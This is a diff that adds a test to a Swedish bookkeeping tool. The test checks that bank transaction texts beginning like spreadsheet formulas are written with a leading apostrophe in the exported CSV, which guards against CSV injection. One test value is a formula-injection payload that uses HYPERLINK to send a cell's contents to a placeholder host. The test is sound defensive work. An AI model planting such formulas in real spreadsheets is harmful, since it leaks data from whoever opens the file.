@@ -8,6 +8,7 @@ import csv
 import hashlib
 import io
 import os
+import re
 import shutil
 import sqlite3
 import zipfile
@@ -24,6 +25,7 @@ from bokfor.plan import ranges
 from bokfor.sie.reader import read as read_sie
 from bokfor.sources import detect_source
 from bokfor.trail import BEFORE_TRAIL, OFF, OWN, SUMS, read_trail
+from bokfor.underlag import CSV_HEADER
 
 from .test_errors import run_cli
 
@@ -489,3 +491,57 @@ def test_a_file_that_changes_while_it_is_read_stops_the_run(capsys, tmp_path, mo
     )
     assert code == 2 and "the file changed while bokfor read it" in err
     assert not out.exists() and not ledger.exists()
+
+
+FORMULA_MAPPING = """version: 1
+company: {name: Exempelbutiken AB, orgnr: 556677-8899}
+accounts: {1930: Företagskonto, 2999: Ej utredda bankposter}
+sources:
+  bank:
+    bank_accounts: {seb: 1930}
+    voucher_text: "{text}"
+    fallback:
+      name: Ej utredd bankpost
+      post:
+        - {account: bank_account, debit: amount}
+        - {account: 2999, credit: amount}
+"""
+
+
+def test_a_text_that_begins_like_a_formula_is_text_in_the_csv(capsys, tmp_path):
+    """Bank texts are written by others (a payer's message, a shop's name): one that begins
+    like a spreadsheet formula is written with a leading ' in underlag.csv, so a spreadsheet
+    shows it as text and never runs it (CSV injection). Amounts stay numbers."""
+    sample = tmp_path / "seb.csv"
+    text = (REPO / "samples" / "bank" / "netbank" / "seb.csv").read_text(encoding="utf-8-sig")
+    for before, after in (
+        ("LÖN JANUARI", '=HYPERLINK("http://x.example/?"&A1)'),
+        ("AVGIFT FÖRETAGSPAKET", "-Återbetalning"),
+        ("SKATTEVERKET", "+46701234567"),
+        ("FIKA & BULLAR HB", "@SUMMA(A1)"),
+    ):
+        assert f";{before};" in text
+        text = text.replace(f";{before};", f";{after};")
+    sample.write_text(text, encoding="utf-8")
+    mapping = tmp_path / "bank.yaml"
+    mapping.write_text(FORMULA_MAPPING, encoding="utf-8")
+    ledger, _ = convert(capsys, sample, mapping, tmp_path)
+    page = tmp_path / "u.html"
+    code, _, err = run_cli(
+        ["underlag", "-m", str(mapping), "--ledger", str(ledger), "-o", str(page)], capsys
+    )
+    assert code == 0, err
+    sheet = (tmp_path / "u.csv").read_text(encoding="utf-8-sig")
+    rows = list(csv.reader(io.StringIO(sheet), delimiter=";"))
+    assert tuple(rows[0]) == CSV_HEADER
+    texts = {row[CSV_HEADER.index("text")] for row in rows[1:]}
+    assert {
+        '\'=HYPERLINK("http://x.example/?"&A1)',
+        "'-Återbetalning",
+        "'+46701234567",
+        "'@SUMMA(A1)",
+    } <= texts
+    amounts = [row[CSV_HEADER.index("belopp")] for row in rows[1:]]
+    assert amounts and all(re.fullmatch(r"\d{1,3}(\xa0\d{3})*,\d\d", a) for a in amounts)
+    assert not [cell for row in rows[1:] for cell in row if cell.startswith(("=", "+", "-", "@"))]
+    assert "=HYPERLINK(&quot;http://x.example/?&quot;&amp;A1)" in page.read_text(encoding="utf-8")
